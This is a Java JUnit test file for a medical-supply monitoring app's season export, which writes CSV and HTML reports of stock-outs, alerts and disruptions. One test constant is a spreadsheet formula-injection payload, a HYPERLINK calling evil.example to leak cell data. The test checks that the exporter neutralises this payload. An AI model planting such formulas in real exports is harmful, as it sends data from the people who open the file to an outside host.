package fr.vigie.app;

import fr.vigie.adapter.retex.ReviewFiles;
import fr.vigie.domain.AlertEvent;
import fr.vigie.domain.AlertLevel;
import fr.vigie.domain.DisruptionKind;
import fr.vigie.domain.DisruptionStatus;
import fr.vigie.domain.Facility;
import fr.vigie.domain.Reason;
import fr.vigie.domain.Season;
import fr.vigie.domain.SeriesKey;
import fr.vigie.domain.Snapshot;
import fr.vigie.domain.SupplyDisruptionEvent;
import fr.vigie.domain.WatchlistEntry;
import fr.vigie.port.SeasonArchive;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The export use case on a small hand-made season, as the retex-export function would run it with its own files. */
class RetexExportTest {

    static final Season SEASON = new Season(2025);
    static final Instant DAY0 = Instant.parse("2025-11-01T05:00:00Z");
    /** A name a spreadsheet would run as a formula (issue 17). */
    static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Laboratoire X\")";
    static final WatchlistEntry FFP2 = SampleSeason.watchlist("season-a").stream()
            .filter(e -> e.deviceId().equals("FFP2")).findFirst().orElseThrow();

    /** A season in memory: CH-BRE-08 runs out on day 5 after an alert on day 2; LABO-X has no known region. */
    static final class SmallSeason implements SeasonArchive {
        final List<Facility> facilities;

        SmallSeason(List<Facility> facilities) {
            this.facilities = facilities;
        }

        @Override
        public List<Facility> facilities() {
            return facilities;
        }

        @Override
        public List<WatchlistEntry> devices() {
            return List.of(FFP2);
        }

        @Override
        public void snapshots(SeriesKey series, Instant from, Instant to, Consumer<Snapshot> sink) {
            long[] stock = series.facilityId().equals("CH-BRE-08") ? new long[]{100, 80, 60, 40, 20, 0, 0, 50} : new long[]{500, 490, 480};
            for (int day = 0; day < stock.length; day++) {
                sink.accept(new Snapshot(series.facilityId(), series.deviceId(), DAY0.plus(Duration.ofDays(day)), stock[day], 20L, null, null, null));
            }
        }

        @Override
        public List<AlertEvent> alertEvents(SeriesKey series, Instant from, Instant to) {
            if (!series.facilityId().equals("CH-BRE-08")) {
                return List.of();
            }
            Instant at = DAY0.plus(Duration.ofDays(2));
            return List.of(new AlertEvent(AlertEvent.alertId("CH-BRE-08", "FFP2", at), "CH-BRE-08", "FFP2", AlertLevel.CRITICAL, null,
                    at, 3, null, 60, 20, List.of(Reason.COVERAGE_BELOW_CRITICAL)));
        }

        @Override
        public List<SupplyDisruptionEvent> disruptionEvents(String deviceId, Instant from, Instant to) {
            return List.of(new SupplyDisruptionEvent("FFP2#2025-11-02", "FFP2", DisruptionStatus.OPEN, DAY0.plus(Duration.ofDays(2)),
                    DAY0.plus(Duration.ofDays(1)), List.of("CH-BRE-08", "LABO-X"), DisruptionKind.ALLOCATION, null, 0.5));
        }
    }

    @Test
    void everySeriesIsExportedWithItsAlertsDisruptionsAndRegion() throws Exception {
        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
        RetexExport.Result result = new RetexExport(new SmallSeason(List.of(new Facility("CH-BRE-08", null, "53", null),
                new Facility("LABO-X", HOSTILE_NAME, null, null)))).export(SEASON, new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())),
                (done, total) -> { });
        assertEquals(List.of("alerts.csv", "report.html", "snapshots.csv", "summary-devices.csv", "summary-regions.csv", "summary.csv"),
                List.copyOf(files.keySet()));
        assertEquals(new RetexExport.Result(2, 1, 11, 1, 1), result);
        String summary = text(files, "summary.csv");
        assertTrue(summary.contains("CH-BRE-08;;53;Bretagne;FFP2;Appareil de protection respiratoire FFP2;14;7;8;0;"), summary);
        assertTrue(summary.contains(";2;1;0;1;3\r\n"), "2 stock-out days, 1 stock-out, announced, 1 alert, 3 days ahead: " + summary);
        assertTrue(summary.contains("LABO-X;\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1;\"\"Laboratoire X\"\")\";;"),
                "a hostile facility name is neutralised, not run: " + summary);
        assertTrue(text(files, "summary-regions.csv").contains("\r\n;Région inconnue;FFP2;"), "a facility without region is counted apart");
        assertTrue(text(files, "alerts.csv").contains("SUPPLY_DISRUPTION;2025-11-03T05:00:00Z;FFP2;;;;;;;;;;;FFP2#2025-11-02;OPEN;"
                + "2025-11-02T05:00:00Z;ALLOCATION;CH-BRE-08 LABO-X;;0,5\r\n"), text(files, "alerts.csv"));
        String report = text(files, "report.html");
        assertTrue(report.contains("<title>tension nationale du 3 nov. 2025"), "the disruption is shaded on the curves");
        assertTrue(report.contains("1 établissement(s) en rupture"), "stock-out days are marked");
        assertTrue(!report.contains("<script") && !report.contains("<link") && !report.contains("@import"), "the page is self-contained");
    }

    @Test
    void aDatabaseWithoutRegistryWritesNothing() throws Exception {
        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
        RetexExport.Result result = new RetexExport(new SmallSeason(List.of()))
                .export(SEASON, new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())), (done, total) -> { });
        assertTrue(result.empty());
        assertEquals(Map.of(), files);
    }

    private static String text(Map<String, ByteArrayOutputStream> files, String name) {
        return files.get(name).toString(StandardCharsets.UTF_8);
    }
}
